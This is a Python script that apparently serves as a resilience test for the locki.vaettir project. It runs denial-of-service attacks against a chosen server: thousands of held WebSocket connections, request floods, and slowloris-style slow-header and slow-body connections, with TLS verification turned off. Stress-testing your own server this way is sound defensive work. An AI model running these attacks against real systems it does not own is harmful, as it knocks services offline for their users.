# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright (c) 2026, the locki.vaettir authors
"""A hostile visitor, in a container of its own and so with an address of its own; standard library only.

`python attack.py KIND ADDRESS HOST SECONDS`, KIND one of ATTACKS: prints what it got as JSON, by status; "closed" is a
connection that ended without an answer.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

SOCKETS = 5_000
PER_SECOND = 200
SLOW = 300  # connections with slow headers, and as many with a slow body
AT_ONCE = 64  # TLS handshakes under way

SHAKE = (
    "GET /ws HTTP/1.1\r\nHost: {host}\r\nOrigin: https://{host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
GET = "GET /attack/{number} HTTP/1.1\r\nHost: {host}\r\n\r\n"
SLOW_HEADERS = "GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: "
SLOW_BODY = "POST /form HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000\r\n\r\n"


class Attacker:
    def __init__(self, address: str, host: str, seconds: float) -> None:
        self.address, self.host, self.end = address, host, time.monotonic() + seconds
        self.found: Counter[str] = Counter()
        self.gate = asyncio.Semaphore(AT_ONCE)
        self.trust = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # whose certificate it is does not matter here
        self.trust.check_hostname, self.trust.verify_mode = False, ssl.CERT_NONE

    @property
    def left(self) -> float:
        return self.end - time.monotonic()

    async def open(self, text: str, **values: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        async with self.gate:
            reader, writer = await asyncio.open_connection(
                self.address, 443, ssl=self.trust, server_hostname=self.host, limit=1 << 20
            )
        writer.write(text.format(host=self.host, **values).encode())
        return reader, writer

    async def answer(self, reader: asyncio.StreamReader) -> None:
        """Counts the next answer, and reads its body."""
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
        self.found[head.split()[1]] += 1
        if "\r\ncontent-length: " in head:
            await reader.readexactly(int(head.split("\r\ncontent-length: ")[1].split()[0]))

    async def again(self, once: Callable[[], Awaitable[None]]) -> None:
        """Whatever the server does about a connection, there is a next one."""
        while self.left > 0:
            try:
                await asyncio.wait_for(once(), self.left)
            except TimeoutError:  # the attack is over
                return
            except (OSError, EOFError, ValueError, IndexError):
                self.found["closed"] += 1
                await asyncio.sleep(1)

    async def socket(self) -> None:
        """A WebSocket, or the connection of one that was refused: both are held."""
        reader, writer = await self.open(SHAKE)
        try:
            await self.answer(reader)
            await reader.read()
        finally:
            writer.close()

    async def requests(self) -> None:
        """One of ten connections; a request does not wait for its own time when the last one came late."""
        reader, writer = await self.open(GET, number=0)
        number = 1
        try:
            while True:
                at = time.monotonic()
                await self.answer(reader)
                await asyncio.sleep(max(0.0, at + 10 / PER_SECOND - time.monotonic()))
                writer.write(GET.format(host=self.host, number=number).encode())
                number += 1
        finally:
            writer.close()

    async def drip(self, text: str, drop: bytes) -> None:
        reader, writer = await self.open(text)
        answered = asyncio.ensure_future(self.answer(reader))
        try:
            while not answered.done():
                writer.write(drop)
                await writer.drain()
                await asyncio.wait([answered], timeout=1)
            answered.result()
        finally:
            answered.cancel()
            writer.close()

    async def many(self, number: int, once: Callable[[], Awaitable[None]]) -> None:
        await asyncio.gather(*(self.again(once) for _ in range(number)))

    async def slow(self) -> None:
        await asyncio.gather(
            self.many(SLOW, lambda: self.drip(SLOW_HEADERS, b"x")), self.many(SLOW, lambda: self.drip(SLOW_BODY, b"x"))
        )


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    "sockets": lambda attacker: attacker.many(SOCKETS, attacker.socket),
    "requests": lambda attacker: attacker.many(10, attacker.requests),
    "slow": Attacker.slow,
}


async def main(kind: str, address: str, host: str, seconds: str) -> None:
    attacker = Attacker(address, host, float(seconds))
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(ATTACKS[kind](attacker), float(seconds) + 5)
    print(json.dumps(attacker.found))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
